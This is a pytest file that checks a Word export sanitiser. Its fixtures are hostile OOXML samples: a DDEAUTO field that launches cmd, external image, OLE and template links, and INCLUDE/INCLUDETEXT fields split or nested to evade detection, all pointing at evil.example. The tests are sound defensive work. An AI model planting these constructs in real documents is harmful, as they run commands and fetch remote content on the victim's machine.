import pytest
from exports.word_reading import parts_of, short_report
from exports.word_templates import LOGO, W_NAMES, changed, council_template, swapped, with_header, with_part

from detector.exports.word import make_word

COMPLEX = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{0}</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
OUTSIDE = (
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{0}" '
    'Target="https://evil.example/x" TargetMode="External"/>'
)
R_NAMES = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
V_NAMES = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
HOSTILE_HEADERS = {
    "a linked picture": (
        f'<w:r><w:pict {V_NAMES}><v:shape><v:imagedata {R_NAMES} r:id="rIdX"/></v:shape></w:pict></w:r>',
        OUTSIDE.format("image"),
    ),
    "a picture by its address": (
        f'<w:r><w:pict {V_NAMES}><v:shape o:href="https://evil.example/x"/></w:pict></w:r>',
        "",
    ),
    "an object": (
        f'<w:r><w:object><o:OLEObject {V_NAMES} {R_NAMES} Type="Link" r:id="rIdX"/></w:object></w:r>',
        OUTSIDE.format("oleObject"),
    ),
    "a link": (
        f'<w:hyperlink {R_NAMES} r:id="rIdX"><w:r><w:t>shown</w:t></w:r></w:hyperlink>',
        OUTSIDE.format("hyperlink"),
    ),
    "a field that runs a program": (COMPLEX.format('DDEAUTO c:\\cmd "/c evil.example"'), ""),
    "a field in pieces": (
        COMPLEX.format("INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE https://evil.example"),
        "",
    ),
    "a field in a field": (COMPLEX.format("IF 1" + COMPLEX.format("INCLUDETEXT https://evil.example")), ""),
    "a simple field": ('<w:fldSimple w:instr="LINK evil.example"><w:r><w:t>shown</w:t></w:r></w:fldSimple>', ""),
}


@pytest.mark.parametrize(("content", "relations"), HOSTILE_HEADERS.values(), ids=list(HOSTILE_HEADERS))
def test_nothing_in_a_header_reaches_outside_the_document(content: str, relations: str) -> None:
    made = make_word(short_report(), with_header(content, relations))

    parts = parts_of(made)
    assert not any(b"evil.example" in part for part in parts.values())
    assert LOGO in parts.values()
    assert ("shown" in content) == any(b"shown" in part for part in parts.values())


def test_what_only_counts_stays_a_field_and_pages_are_counted_once() -> None:
    footer = swapped("</w:p></w:ftr>", f"{COMPLEX.format(' PAGE ')}</w:p></w:ftr>")
    template = changed(council_template(), {"word/footer1.xml": footer})

    made = make_word(short_report(), template)

    said = parts_of(made)["word/template-footer2.xml"].decode()
    assert said.count("PAGE") == 1
    assert "fldCharType" in said


def test_a_template_linked_to_another_file_is_cut_loose() -> None:
    linked = f'<w:settings {W_NAMES} {R_NAMES}><w:attachedTemplate r:id="rIdX"/><w:trackRevisions/></w:settings>'
    outside = OUTSIDE.format("attachedTemplate")
    relations = f'<Relationships xmlns="{PACKAGE}/relationships">{outside}</Relationships>'
    template = changed(
        with_part("word/settings.xml", linked), {}, {"word/_rels/settings.xml.rels": relations.encode()}
    )

    made = parts_of(make_word(short_report(), template))

    assert b"attachedTemplate" not in made["word/settings.xml"]
    assert b"trackRevisions" not in made["word/settings.xml"]
    assert not any(b"evil.example" in part for part in made.values())


def test_nothing_else_of_a_template_comes_along() -> None:
    template = changed(
        council_template(), {}, {"customXml/item9.xml": b"<secret/>", "word/embeddings/x.bin": b"secret"}
    )

    made = parts_of(make_word(short_report(), template))

    assert not any(b"secret" in content for content in made.values())
    assert not any(part.startswith(("customXml", "docProps/thumbnail")) for part in made)
